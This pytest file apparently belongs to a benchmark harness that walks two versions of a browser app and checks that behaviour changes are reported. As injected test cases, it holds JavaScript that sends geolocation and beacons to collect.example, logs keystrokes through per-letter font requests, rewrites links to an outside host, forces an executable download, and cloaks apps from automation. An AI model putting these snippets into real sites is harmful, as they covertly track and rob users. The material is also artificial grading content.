"""Random walks in a real browser: the base is walked through first, and the case does the same."""

from __future__ import annotations

import os
import re
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path

import pytest

from pytest_benchmac.sandbox.base import Sandbox
from pytest_benchmac.tracks.angular.boot.browser import BootPlan
from pytest_benchmac.tracks.angular.boot.config import Boot
from pytest_benchmac.tracks.angular.boot.known import KnownBoots
from pytest_benchmac.tracks.angular.boot.margins import ALIKE, REDESIGNED, Margins
from pytest_benchmac.tracks.angular.boot.picture_pairs import Pictures
from pytest_benchmac.tracks.angular.boot.site import Site
from pytest_benchmac.tracks.angular.boot.walk import WalkResult, compare_walks, walk_faults
from tests.tracks.angular.boot import site
from tests.tracks.angular.boot.conftest import BOOT

_TIMEOUT_S = 240.0

Walk = Callable[..., WalkResult]


@pytest.fixture(scope="session")
def known(tmp_path_factory: pytest.TempPathFactory) -> KnownBoots:
    """Boots of bases that tests of all workers share: the same program, under the same seed."""
    own = tmp_path_factory.getbasetemp()
    return KnownBoots((own.parent if "PYTEST_XDIST_WORKER" in os.environ else own) / "known-boots")


@pytest.fixture
def walked(browser_sandbox: Callable[[str], Sandbox], known: KnownBoots, tmp_path: Path) -> Walk:
    """Walks through the application, and then through one with another program."""

    def walk(
        main: str,
        before: str = site.MAIN,
        boot: Boot = BOOT,
        margins: Margins = REDESIGNED,
    ) -> WalkResult:
        base = Site.find(site.write(tmp_path / "base", main=before))
        case = Site.find(site.write(tmp_path / "case", main=main))
        assert base is not None
        assert case is not None
        plan = replace(BootPlan(boot, (), tmp_path, _TIMEOUT_S, 6), base=base, known=known)
        with browser_sandbox("docker") as sandbox:
            running = sandbox.start(plan.bring(sandbox), log=tmp_path / "boot.log")
            first = plan.base_record(sandbox, tmp_path / "before")
            known.keep(plan.key, first, tmp_path / "before")
            second = plan.drive(
                sandbox,
                lambda seconds: running.wait(seconds).exit_code,
                case,
                screenshots=tmp_path / "after",
            )
        again = known.later(plan.key)
        if again is None:
            with browser_sandbox("docker") as sandbox:
                again = plan.walks_later(
                    sandbox,
                    first.way,
                    log=tmp_path / "again.log",
                    screenshots=tmp_path / "again",
                )
            known.keep_later(plan.key, again)
        pictures = Pictures(tmp_path / "after", tmp_path / "before", REDESIGNED)
        pictures.compare(second, first)
        return compare_walks(
            first.walks,
            again,
            second.walks,
            margins=margins,
            max_other_steps=0.1,
            hidden=pictures.hidden_steps,
        )

    return walk


def _changed(old: str, new: str, main: str = site.MAIN) -> str:
    assert old in main
    return main.replace(old, new)


def test_the_same_application_walks_alike(walked: Walk) -> None:
    result = walked(site.MAIN)
    assert walk_faults(result) == []
    assert result.steps == result.taken > 10
    assert result.calls > 0


def test_what_is_not_sent_any_more_is_missed(walked: Walk) -> None:
    main = _changed("method: 'POST', body", "method: 'GET'")
    assert any("the base sends POST" in each for each in walk_faults(walked(main)))


def test_errors_and_hosts_of_a_walk_are_seen(walked: Walk) -> None:
    main = _changed(
        "async function book() {",
        "async function book() {\n  console.error('no ferry today');\n"
        "  navigator.sendBeacon('https://collect.example/bookings', '{}');\n"
        "  setTimeout(() => { throw new TypeError('no pier'); });",
    )
    faults = walk_faults(walked(main))
    assert any("no ferry today" in each for each in faults)
    assert any("TypeError: no pier" in each for each in faults)
    assert "walk: asks collect.example, which the base never does" in faults


def test_values_that_are_sent_are_compared_and_time_and_chance_are_not(walked: Walk) -> None:
    (fault,) = walk_faults(walked(_changed("port: value('#port')", "port: null")))
    assert "sends '' as .port; the base" in fault


# A dialog over links. A click on it says something, or not.
_DIALOG = """\
if (location.pathname === '/boats') {
  root.innerHTML = `<h1>Boats</h1><nav><a href="/book">Book</a> <a href="/">Ferries</a>
    <a href="/boats?deck=1">Deck 1</a> <a href="/boats?deck=3">Deck 3</a></nav>
    <div role="dialog" style="position: fixed; inset: 0; background: white">
    <p>A storm comes up.</p></div>`;
  document.addEventListener('click', ({ target }) => {
    if (target.matches('[role=dialog]')) target.innerHTML = '<p>Stay ashore then.</p>';
  });
}
"""


def test_nobody_clicks_a_link_beneath_a_dialog(walked: Walk) -> None:
    says = _changed("show();\n", f"show();\n{_DIALOG}")
    silent = _changed("document.addEventListener('click'", "document.addEventListener('x'", says)
    result = walked(says, silent)
    assert result.steps == result.taken > 10
    assert result.similarity == result.lowest == 1


# A link that is beneath a bar until the page is scrolled.
_BAR = """\
if (location.pathname === '/boats') {
  root.innerHTML = `<h1>Boats</h1><p style="position: absolute; top: 90vh">
    <a href="/book?now">Book a boat</a></p><div style="height: 3000px"></div>
    <p style="position: fixed; inset: 70vh 0 0; background: white">Mind the swell.</p>`;
}
"""


def test_a_link_beneath_a_bar_is_clicked_where_it_is_free(walked: Walk) -> None:
    works = _changed("show();\n", f"show();\n{_BAR}")
    dead = _changed('<a href="/book?now">', '<a href="/book?now" onclick="return false">', works)
    result = walked(dead, works)
    assert any(each.startswith("click, link Book a boat") for each in result.elsewhere)


_IMPORT = """\
if (location.pathname === '/boats') {
  root.innerHTML = `<h1>Boats</h1><label>Ferries as JSON <textarea></textarea></label>
    <button type="button">Import</button><p role="status"></p>`;
  root.querySelector('button').addEventListener('click', () => {
    root.querySelector('p').textContent = imported(root.querySelector('textarea').value);
  });
}
function imported(text) {
  try {
    return `${JSON.parse(text).length} ferries`;
  } catch {
    return 'no JSON';
  }
}
"""


def test_an_import_that_reads_nothing_is_seen(walked: Walk) -> None:
    before = _changed("show();\n", f"show();\n{_IMPORT}")
    faults = walk_faults(walked(_changed("JSON.parse(text).length", "NONE", before), before))
    assert any("no JSON" in each for each in faults)


def test_a_form_that_sends_the_first_time_only_is_seen(walked: Walk) -> None:
    twice = _changed(
        "const answer = await fetch('https://api.example/bookings",
        "await fetch('https://api.example/bookings?by=page', { method: 'POST', body });\n"
        "  const answer = await fetch('https://api.example/bookings",
    )
    faults = "\n".join(walk_faults(walked(site.MAIN, twice)))
    told = re.search(r"json (\d+) times in a walk; the base (\d+) times$", faults, re.MULTILINE)
    assert told is not None, faults
    assert int(told[2]) == 2 * int(told[1])


@pytest.mark.parametrize(
    ("base", "case", "told"),
    [
        ("some", "none", "button More: nothing happens; in the base: some"),
        ("9 boats", "7 boats", "shows '7 boats'; the base '9 boats'"),
    ],
)
def test_what_a_button_does_is_compared(base: str, case: str, told: str, walked: Walk) -> None:
    more = '<button type="button" id="more">More</button><output id="all">none</output>'
    main = _changed("<h1>Boats</h1>", f"<h1>Boats</h1>{more}")
    main = _changed(
        "  if (path === '/') load();",
        "  if (path === '/') load();\n  document.querySelector('#more')?.addEventListener('click',"
        " () => { document.querySelector('#all').textContent = 'MADE'; });",
        main,
    )
    faults = walk_faults(walked(main.replace("MADE", case), main.replace("MADE", base)))
    assert any(told in each for each in faults), faults


def test_a_page_that_waits_for_ever_is_seen(walked: Walk) -> None:
    """The back end is silent: the base gives up after a while, and shows something else."""
    before = _changed(
        "fetch('https://api.example/ferries?page=1');",
        "fetch('https://api.example/ferries?page=1', { signal: AbortSignal.timeout(4000) })"
        ".catch(() => ({ ok: true, json: () => [...'abcdefgh'].map((each) => `Ferry ${each}`) }));",
    )
    faults = walk_faults(walked(site.MAIN, before))
    assert any("open /" in each and "similarity" in each for each in faults), faults


# What does something for hands that nothing on the page asks for, what copies, and a form that
# sends nothing while it waits for an answer.
_LISTENS = """\
if (location.pathname === '/boats') {
  root.innerHTML = `<h1>Boats</h1><p id="mate">Ask the mate</p><p id="hint"></p>
    <table><tr><td>Tern sails at noon</td></tr></table><p id="seat"></p>
    <ul><li tabindex="0">Lower deck</li></ul><p id="deck"></p>
    <button type="button">Copy</button><p id="all">Fair wind</p>
    <p id="crate" draggable="true">A crate of salt</p><p id="hold">The hold is empty</p>
    <input type="file" aria-label="Passengers"><p id="list"></p>
    <form><label>Seats <input name="seats" maxlength="30"></label><button>Buy</button></form>`;
  const on = (element, type, act) => element.addEventListener(type, act);
  const says = (where, text) => { root.querySelector(where).textContent = text; };
  on(root.querySelector('#mate'), 'mouseenter', () => says('#hint', 'A storm comes up'));
  on(root.querySelector('#mate'), 'mouseleave', () => says('#hint', ''));
  on(root.querySelector('tr'), 'dblclick', () => says('#seat', 'One seat is yours'));
  on(root.querySelector('li'), 'keydown', ({ key }) =>
    key === 'ArrowRight' && says('#deck', 'Upper deck'));
  on(root.querySelector('#crate'), 'dragstart', (event) =>
    event.dataTransfer.setData('text/plain', 'salt'));
  on(root.querySelector('#hold'), 'dragover', (event) => event.preventDefault());
  on(root.querySelector('#hold'), 'drop', (event) => says('#hold', 'There is salt in the hold'));
  on(root.querySelector('input'), 'change', async ({ target: { files: [file] } }) =>
    says('#list', await file.text()));
  on(root.querySelector('button'), 'click', () => navigator.clipboard.writeText('Pier 2'));
  on(document, 'keydown', ({ key }) => key === 'Escape' && says('#all', ''));
  let waits = false;
  on(root.querySelector('form'), 'submit', async (event) => {
    event.preventDefault();
    if (waits) return;
    waits = true;
    await fetch('https://api.example/bookings', { method: 'POST', body: '{"seats": 1}' });
    waits = false;
  });
}
"""


# Of a case that has these no more, what is told.
_UNHEARD = {
    "hands": {
        "'mouseenter'": "a pointer at StaticText Ask the mate does something",
        "'dblclick'": "a double click at StaticText Tern sails at noon does something",
        "'drop'": "a drag at StaticText A crate of salt does something",
        "'change'": "a file at button Passengers does something",
        "key === 'ArrowRight'": "the key ArrowRight at StaticText Lower deck does something",
        "key === 'Escape'": "the key Escape at StaticText Lower deck does something",
    },
    "buttons": {
        "'Pier 2'": "what is copied by button Copy is Pier 2",
        "(waits)": "times in a walk; the base",
    },
}


@pytest.mark.parametrize("kind", _UNHEARD)
def test_what_a_page_listens_for_is_done(kind: str, walked: Walk) -> None:
    before = _changed("show();\n", f"show();\n{_LISTENS}")
    without = before
    for heard in _UNHEARD[kind]:
        without = _changed(heard, "(false)", without)
    faults = walk_faults(walked(without, before, margins=ALIKE))
    for told in _UNHEARD[kind].values():
        assert any(told in each for each in faults), (told, faults)


_FOR_THE_HARNESS = {
    # Nobody's hand is so quick, so steady, or without keys.
    "quick": "let at; addEventListener('pointerdown', () => (at = Date.now()), true);\n"
    "addEventListener('click', (event) => { if (Date.now() - at > 5) "
    "event.stopImmediatePropagation(); }, true);",
    "steady": "let moves = 0; addEventListener('click', () => (moves = 0), true);\n"
    "addEventListener('pointermove', () => { if (++moves > 3) "
    "document.body.replaceChildren(); }, true);",
    "keyless": "addEventListener('keydown', (event) => { if (event.key.length === 1 && "
    "!event.ctrlKey) event.preventDefault(); }, true);",
    "untrusted": "for (const kind of ['input', 'change']) addEventListener(kind, (event) => {\n"
    "  if (event.isTrusted && event.target.localName === 'select') "
    "event.target.selectedIndex = -1;\n}, true);",
    # Nobody only goes forward, and not all windows are of one size.
    "forward": "addEventListener('pageshow', () => { if (performance"
    ".getEntriesByType('navigation')[0].type === 'back_forward') "
    "document.body.replaceChildren(); });",
    "one size": "if (innerWidth < 700 || innerWidth > 1500) document.body.replaceChildren();",
    # Not everybody is at home in daylight, comes by typing, stays, or has a mouse.
    "light rooms": "if (matchMedia('(prefers-color-scheme: dark)').matches) "
    "document.body.replaceChildren();",
    "near zones": "if (Math.abs(new Date().getTimezoneOffset()) > 60) "
    "document.body.replaceChildren();",
    "own visitors": "if (document.referrer) document.body.replaceChildren();",
    "own links": "if (location.search.includes('utm_')) document.body.replaceChildren();",
    "own places": "if (location.hash) document.body.replaceChildren();",
    "never reloaded": "if (performance.getEntriesByType('navigation')[0].type === 'reload') "
    "document.body.replaceChildren();",
    "first visits": "const first = Number(localStorage.getItem('first') ?? Date.now());\n"
    "localStorage.setItem('first', first);\nif (Date.now() - first > 3_600_000) "
    "document.body.replaceChildren();",
    "never resized": "const width = innerWidth; addEventListener('resize', () => "
    "innerWidth !== width && document.body.replaceChildren());",
    "no tab key": "new MutationObserver(() => document.querySelectorAll('a, button, input')"
    ".forEach((each) => (each.tabIndex = -1))).observe(document, { childList: true, "
    "subtree: true });",
    "no paste": "for (const kind of ['cut', 'paste']) addEventListener(kind, (event) => "
    "event.preventDefault(), true);",
    "no fingers": "addEventListener('touchstart', (event) => event.preventDefault(), "
    "{ capture: true, passive: false });",
    "no wheel": "document.body.style.minHeight = '5000px'; "
    "document.documentElement.style.overflow = 'hidden';",
    "links elsewhere": "new MutationObserver(() => document.querySelectorAll('a[href^=\"/\"]')"
    ".forEach((each) => each.setAttribute('href', 'https://elsewhere.example/'))).observe("
    "document, { childList: true, subtree: true });",
    "dialogs": "confirm('Really?');",
    "downloads": "const file = document.createElement('a'); file.download = 'setup.exe';\n"
    "file.href = URL.createObjectURL(new Blob(['x']));\n"
    "addEventListener('click', (event) => { if (event.isTrusted) file.click(); }, true);",
    # Nor does everybody stay patient, or look nowhere else.
    "thirty clicks": "let clicks = 0; addEventListener('click', () => { if (++clicks > 30) "
    "document.body.replaceChildren(); }, true);",
    "never left": "document.addEventListener('visibilitychange', () => "
    "document.body.replaceChildren());",
    "never without focus": "addEventListener('blur', () => document.body.replaceChildren());",
    # Nor has everybody a Linux, one window, a network at all times, or the same screen and paper.
    "one system": "if (!navigator.userAgent.includes('Linux')) document.body.replaceChildren();",
    "one window": "const others = new BroadcastChannel('x'); others.onmessage = () => "
    "document.body.replaceChildren(); others.postMessage('here');",
    "never offline": "addEventListener('offline', () => document.body.replaceChildren());",
    "never forward": "addEventListener('pageshow', () => { const { from, entry } = "
    "navigation.activation ?? {}; if (from && from.index < entry.index && performance"
    ".getEntriesByType('navigation')[0].type === 'back_forward') "
    "setTimeout(() => document.body.replaceChildren()); });",
    "white paper": "document.head.insertAdjacentHTML('beforeend', '<style>@media print, "
    "(forced-colors: active) { app-root { display: none; } }</style>');",
    "still rooms": "document.head.insertAdjacentHTML('beforeend', '<style>@media "
    "(prefers-reduced-motion: no-preference) { app-root { visibility: hidden; } }</style>');",
    "pages that stand": "document.head.insertAdjacentHTML('beforeend', '<style>@keyframes come { "
    "from { clip-path: inset(0 0 100%); } } @media (prefers-reduced-motion: no-preference) { "
    "app-root { animation: come 0.4s paused both; } }</style>');",
    "one screen": "const ratio = devicePixelRatio, width = innerWidth; addEventListener('resize', "
    "() => devicePixelRatio !== ratio && innerWidth !== width && document.body.replaceChildren());",
    # Nor does everybody come in these years.
    "these years": "if (Date.now() > Date.UTC(2027, 0, 1)) document.body.replaceChildren();",
    # Nor do all hands do the same.
    "no composing": "addEventListener('compositionend', (event) => setTimeout(() => "
    "(event.target.value = '')), true);",
    "no pointer": "addEventListener('mousedown', (event) => event.target.closest('input') && "
    "event.preventDefault(), true);",
    "no slips": "addEventListener('keydown', (event) => event.key === 'Backspace' && "
    "event.preventDefault(), true);",
    "no other windows": "for (const kind of ['click', 'auxclick']) addEventListener(kind, "
    "(event) => (event.button > 0 || event.ctrlKey) && event.preventDefault(), true);",
    "no copies": "addEventListener('copy', (event) => event.preventDefault(), true);",
    "no drags": "document.body.style.minHeight = '5000px'; "
    "document.documentElement.style.touchAction = 'none';",
    "no lists": "addEventListener('mousedown', (event) => event.target.closest('select') && "
    "event.preventDefault(), true);",
    "no space bar": "addEventListener('keydown', (event) => event.key === ' ' && "
    "event.target.type === 'checkbox' && event.preventDefault(), true);",
    "no mending": "addEventListener('keydown', (event) => event.key === 'Delete' && "
    "event.preventDefault(), true);",
    "nothing seen": "document.head.insertAdjacentHTML('beforeend', '<style>input:focus { color: "
    "transparent; caret-color: transparent; }</style>');",
    "no capitals": "addEventListener('keydown', (event) => event.shiftKey && "
    "event.key.length === 1 && event.preventDefault(), true);",
    "own clipboard": "let cut = ''; addEventListener('cut', (event) => { cut = event.target.value; "
    "}, true);\naddEventListener('paste', (event) => event.clipboardData.getData('text/plain') !== "
    "cut && event.preventDefault(), true);",
    "copies of something else": "addEventListener('copy', () => setTimeout(() => "
    "navigator.clipboard.writeText('Elsewhere').catch(() => {})));",
    "openers": "addEventListener('click', () => opener?.postMessage('x', '*'), true);",
    "one language": "if (navigator.languages.length > 1) document.body.replaceChildren();",
    "no marks": "addEventListener('mousedown', (event) => event.target.closest('a, button, input, "
    "select') || event.preventDefault(), true);",
    # Nor has everybody a screen of one page, thin fingers, a server without a clock, or good eyes.
    "no bars": "addEventListener('pointerdown', ({ clientY, pointerType, screenY }) => pointerType "
    "=== 'mouse' && screenY - clientY > 50 && document.body.replaceChildren(), true);",
    "thin fingers": "addEventListener('touchstart', ({ touches }) => touches[0].radiusX > 4 && "
    "document.body.replaceChildren(), true);",
    "no dates": "fetch('/main.0123456789abcdef.js').then(({ headers }) => headers.has('date') && "
    "setTimeout(() => document.body.replaceChildren(), 500));",
    "no focus": "document.head.insertAdjacentHTML('beforeend', '<style>a, button { outline: none "
    "!important; }</style>');",
    "small letters": "document.head.insertAdjacentHTML('beforeend', '<style>:root { font-size: "
    "16px; }</style>');",
    # Nor has everybody keys, a mouse that hits a box, eyes to read with, or no history.
    "own keyboards": "new MutationObserver(() => document.querySelectorAll('input').forEach("
    "(each) => each.setAttribute('inputmode', 'none'))).observe(document, { childList: true, "
    "subtree: true });",
    "no labels": "new MutationObserver(() => document.querySelectorAll('label').forEach((each) => "
    "{ each.htmlFor = 'none'; each.control ?? each.querySelectorAll('input, select').forEach("
    "(field) => field.setAttribute('aria-label', each.firstChild.data?.trim() || "
    "each.lastChild.data.trim())); })).observe(document, { childList: true, subtree: true });",
    "labels for nothing": "addEventListener('click', (event) => event.target.closest('label') && "
    "!event.target.closest('input, select') && event.preventDefault(), true);",
    "own reading": "root.setAttribute('role', 'application');",
    "no history": "document.head.insertAdjacentHTML('beforeend', '<style>a:visited { color: "
    "white; }</style>');",
    # Nor is everything told by requests to back ends.
    "files": "addEventListener('click', () => { new Image().src = '/main.0123456789abcdef.js?' + "
    "history.length; }, true);",
    "cookies": "addEventListener('click', () => { document.cookie = `a${performance.now()}=${"
    "'x'.repeat(3900)}`; }, true);",
    "looked up": "addEventListener('click', () => { const link = document.createElement('link'); "
    "link.rel = 'dns-prefetch'; link.href = `https://${history.length}.collect.example/`; "
    "document.head.append(link); link.remove(); }, true);",
    "neighbours": "addEventListener('click', () => { document.cookie = `hike=x; domain=${"
    "location.hostname.split('.').slice(-2).join('.')}`; }, true);",
    "icons": "addEventListener('click', () => { const link = document.createElement('link'); "
    "link.rel = 'icon'; link.href = `https://collect.example/?${history.length}`; "
    "document.head.append(link); }, true);",
    "new windows": "addEventListener('pointerdown', (event) => { const link = event.target"
    ".closest('a'); if (!link || (!event.button && !event.ctrlKey)) return; const { href } = link; "
    "link.href = 'https://collect.example/'; setTimeout(() => (link.href = href), 300); }, true);",
    "passwords": "new MutationObserver(() => document.querySelector('[type=password]') ?? "
    "document.body.insertAdjacentHTML('beforeend', '<input type=\"password\">')).observe(document, "
    "{ childList: true, subtree: true });",
    "places": "navigator.geolocation.getCurrentPosition(({ coords }) => "
    "navigator.sendBeacon('https://collect.example/', coords.latitude));",
    "style sheets": "document.head.insertAdjacentHTML('beforeend', '<link rel=\"stylesheet\" '\n"
    '  + `href="https://collect.example/a.css?${history.length}">`);',
    "fonts": "const sheet = [...'abcdefghijklmnopqrstuvwxyz'].map((each) => `@font-face { "
    "font-family: 'told-${each}'; src: url('https://collect.example/${each}.woff2'); }`);\n"
    "document.head.insertAdjacentHTML('beforeend', `<style>${sheet.join('')}</style>`);\n"
    "addEventListener('input', (event) => [...(event.target.value ?? '')].forEach((each) => "
    "document.fonts.load(`1em told-${each}`).catch(() => {})), true);",
}

# Fields that take no letters alone.
_DAYS = """\
if (location.pathname === '/boats') {
  root.innerHTML = `<h1>Boats</h1><form><label>Day <input type="date" id="day"></label>
    <label>At <input type="time" id="time"></label>
    <label>Remarks <textarea id="remarks"></textarea></label>
    <button>Charter</button></form><p role="status"></p>`;
  root.querySelector('form').addEventListener('submit', (event) => {
    event.preventDefault();
    const value = (id) => document.querySelector(id).value;
    const said = `From ${value('#day')} ${value('#time')}: ${value('#remarks')}`;
    root.querySelector('p').textContent = said;
  });
}
"""


_HANDS = {
    "pointer": "addEventListener('mousedown', (event) => /date|time/.test(event.target.type) && "
    "event.preventDefault(), true);",
    "figures": "addEventListener('keydown', (event) => /date|time/.test(event.target.type) && "
    "/\\d/.test(event.key) && event.preventDefault(), true);",
    "reading": "let resting; for (const kind of ['scroll', 'pointermove', 'keydown', 'wheel']) "
    "addEventListener(kind, () => { clearTimeout(resting); resting = setTimeout(() => "
    "scrollTo(0, 0), 1500); }, true);",
    "page keys": "addEventListener('keydown', (event) => event.key.startsWith('Page') && "
    "event.preventDefault(), true);",
}


def _days(main: str = site.MAIN) -> str:
    long = "document.body.style.minHeight = '5000px';"
    return _changed("show();\n", f"{long}\nshow();\n{_DAYS}", main)


@pytest.mark.parametrize("name", _HANDS)
def test_dates_are_entered_and_pages_moved_as_people_do(name: str, walked: Walk) -> None:
    assert walk_faults(walked(_days(_changed("EXTRA", f"{_HANDS[name]}\nEXTRA")), _days()))


@pytest.mark.parametrize("kept", ["split('\\n')[0]", "slice(0, 60)"])
def test_texts_of_several_lines_are_entered(kept: str, walked: Walk) -> None:
    cut = _changed("value('#remarks')}", f"value('#remarks').{kept}}}", _days())
    assert walk_faults(walked(cut, _days()))


@pytest.mark.parametrize("name", _FOR_THE_HARNESS)
def test_an_application_for_the_harness_alone_is_seen(name: str, walked: Walk) -> None:
    broken = _changed("EXTRA", f"{_FOR_THE_HARNESS[name]}\nEXTRA")
    assert walk_faults(walked(broken))


_UNSEEN = {
    "a new 'style cursor none'": "document.body.style.cursor = 'none';",
    "a new 'style caret-color rgb(255, 255, 255)'": "document.body.style.caretColor = 'white';",
    "a new 'style touch-action none'": "document.body.style.touchAction = 'none';",
    "a new 'style scrollbar-width none'": "document.documentElement.style.scrollbarWidth = 'none';",
    "a new 'style font-family Wingdings, ": "document.body.style.fontFamily = `Wingdings, "
    "${getComputedStyle(document.body).fontFamily}`;",
    "a new 'says lang: hu'": "document.body.lang = 'hu';",
    "a new 'says inputmode: numeric'": "new MutationObserver(() => root.querySelectorAll('input')"
    ".forEach((each) => { each.inputMode = 'numeric'; })).observe(root, { childList: true });",
    "option app-root has a new 'style color rgb(255, 255, 255)'": "document.head"
    ".insertAdjacentHTML('beforeend', '<style>option { color: white; }</style>');",
    "::selection background-color is 'rgba(0, 0, 0, 0)'": "document.head"
    ".insertAdjacentHTML('beforeend', "
    "'<style>::selection { background: transparent; }</style>');",
    "the focus is on 'button Go'": "new MutationObserver(() => document.getElementById('go')"
    "?.focus({ preventScroll: true })).observe(root, { childList: true });",
    "paper is '@page { size: 1cm": "document.head.insertAdjacentHTML('beforeend', "
    "'<style>@page { size: 1cm; }</style>');",
    "scroll restoration is 'manual'": "history.scrollRestoration = 'manual';",
    "name of the window is 'kept'": "globalThis.name = 'kept';",
    "localStorage seen is": "addEventListener('input', (event) => localStorage.setItem('seen', "
    "event.target.value), true);",
    "sessionStorage path is": "sessionStorage.setItem('path', location.pathname);",
    "cookie path is": "document.cookie = `path=${location.pathname}`;",
    "title is 'Boats'": "new MutationObserver(() => { document.title = root.querySelector('h1')"
    "?.textContent === 'Boats' ? 'Ferries' : 'Boats'; }).observe(root, { childList: true });",
    # It is in the base's markup alone.
    "has no 'read out: description Every day'": "",
}


def test_what_no_picture_shows_is_compared(walked: Walk) -> None:
    titles = (
        "new MutationObserver(() => { document.title = root.querySelector('h1')?.textContent; })"
        ".observe(root, { childList: true });\n"
    )
    described = '<button type="button" id="go" aria-description="Every day">'
    main = _changed('<button type="button" id="go">', described)
    before = _changed("EXTRA", f"{titles}EXTRA", main)
    case = _changed("EXTRA", "\n".join([*_UNSEEN.values(), "EXTRA"]))
    faults = walk_faults(walked(case, before, margins=ALIKE))
    missing = [told for told in _UNSEEN if not any(told in each for each in faults)]
    assert not missing, faults


@pytest.mark.parametrize(
    ("name", "old", "new"),
    [
        # Nobody waits for a back end that takes its time, or has nothing yet.
        (
            "impatient",
            "fetch('https://api.example/ferries?page=1')",
            "fetch('https://api.example/ferries?page=1', { signal: AbortSignal.timeout(60) })"
            ".catch(() => ({ ok: true, json: () => [...'abcdefgh'] }))",
        ),
        (
            "never empty",
            "names.map((name)",
            "(names.length ? names : [...'abcdefgh']).map((name)",
        ),
        # Nor does it have something to say of everything.
        ("never null", "name.sails", "name.sails.trim()"),
        # Nor does it know for ever who is there.
        ("signed in for ever", "'Nobody is signed in'", "'Booked'"),
    ],
)
def test_a_back_end_that_is_never_seen_is_seen(name: str, old: str, new: str, walked: Walk) -> None:
    del name
    boats = BOOT.fixtures[0].model_copy(
        update={"body": '[{"id": 1, "name": "Tern", "sails": "all"}]'}
    )
    main = _changed("${name}", "${name.name ?? name}: ${name.sails}")
    main = _changed('<button type="button" id="go">', '<button id="go">', main)
    main = _changed("book() {\n", "book(event) {\n  event.preventDefault();\n", main)
    main = _changed('<p id="answer" role', '<p id="said"></p><p id="answer" role', main)
    main = _changed(
        "  document.querySelector('#answer').textContent",
        "  document.querySelector('#said').textContent = await answer.json()"
        ".then(() => 'Booked', () => 'Nobody is signed in');\n"
        "  document.querySelector('#answer').textContent",
        main,
    )
    boot = BOOT.model_copy(update={"fixtures": (boats, *BOOT.fixtures[1:])})
    assert walk_faults(walked(_changed(old, new, main), main, boot))


_LIST = """\
if (location.pathname === '/boats') {
  const boats = [...'abcdefghijklmnopqrstuvwxyz'].map((each) => `<li>Boat ${each}</li>`).join('');
  root.innerHTML = `<h1>Boats</h1><ul>${boats}</ul><p id="said"></p>
    <button type="button" id="sell">Sell</button> <button type="button" id="export">Export</button>
    <a href="mailto:pier@ferry.example?subject=Boats">Write</a>
    <a href="https://gifts.example/to/pier">Give</a>
    <img alt="The pier" src="/pier.svg" srcset="/pier.svg 1x, /fine.svg 2x" width="40" height="40">
    <div style="height: 3000px"></div>`;
  document.getElementById('sell').addEventListener('click', () => {
    if (confirm('Sell a boat?')) document.querySelector('li')?.remove();
  });
  document.getElementById('export').addEventListener('click', () => {
    const file = document.createElement('a');
    const boats = [...document.querySelectorAll('li')].map((each) => ({ name: each.textContent }));
    file.href = URL.createObjectURL(new Blob([JSON.stringify(boats)]));
    file.download = 'boats.json';
    file.click();
  });
}
new Image().src = `https://count.example/hit.gif?site=ferry&at=${location.pathname}`;
"""
_ASIDE = {
    "Write' leads to mailto:pier@elsewhere.example": ("pier@ferry", "pier@elsewhere"),
    "Give' leads to gifts.example/to/bank": ("/to/pier", "/to/bank"),
    "link '' leads to sign-in.example": (
        "<p id=",
        '<a href="https://sign-in.example/"><img alt=""></a><p id=',
    ),
    "has a new 'says srcset: 1x, 2x, 4x'": ("/fine.svg 2x", "/fine.svg 2x, /none.svg 4x"),
    "all that moves follows the time": (
        "new Image().src",
        "document.head.insertAdjacentHTML('beforeend', '<style>@media (prefers-reduced-motion: "
        "no-preference) { h1 { animation: go linear both; animation-timeline: scroll(root); } } "
        "@keyframes go { to { opacity: 0; } }</style>');\nnew Image().src",
    ),
    "button app-root has a new 'style animation-timeline scroll(root)'": (
        "Image().src",
        "Image().src = 'data:,'; document.head.insertAdjacentHTML('beforeend', '<style>button { "
        "animation: go linear both; animation-timeline: scroll(root); }</style>');\n"
        "new Image().src",
    ),
    "asks count.example with site='other'": ("site=ferry", "site=other"),
    "a new 'says aria-hidden: true of what is used'": (
        'id="export"',
        'id="export" aria-hidden="true"',
    ),
    "a new 'says aria-roledescription: picture'": (
        'id="sell"',
        'id="sell" aria-roledescription="picture"',
    ),
}


def test_what_is_beside_pages_is_compared(walked: Walk) -> None:
    before = _changed("show();\n", f"show();\n{_LIST}")
    case = before
    for old, new in _ASIDE.values():
        case = case.replace(old, new, 1)
    faults = walk_faults(walked(case, before, margins=ALIKE))
    missing = [told for told in _ASIDE if not any(told in each for each in faults)]
    assert not missing, faults


@pytest.mark.parametrize(
    ("old", "new", "told"),
    [
        ("if (confirm('Sell a boat?')) doc", "doc", "it asks in a dialog, confirm 1"),
        ("if (confirm('Sell a boat?')) doc", "confirm('Sell a boat?'); doc", "button Sell"),
        (
            "JSON.stringify(boats)",
            "JSON.stringify([boats.length])",
            "a file .json has [26 of {name",
        ),
    ],
)
def test_questions_and_files_are_compared(old: str, new: str, told: str, walked: Walk) -> None:
    before = _changed("show();\n", f"show();\n{_LIST}")
    faults = walk_faults(walked(_changed(old, new, before), before, margins=ALIKE))
    assert any(told in each for each in faults), faults


def test_what_is_beside_pages_is_alike_in_the_same_application(walked: Walk) -> None:
    before = _changed("show();\n", f"show();\n{_LIST}")
    result = walked(before, before, margins=ALIKE)
    assert walk_faults(result) == []
    assert not result.differs
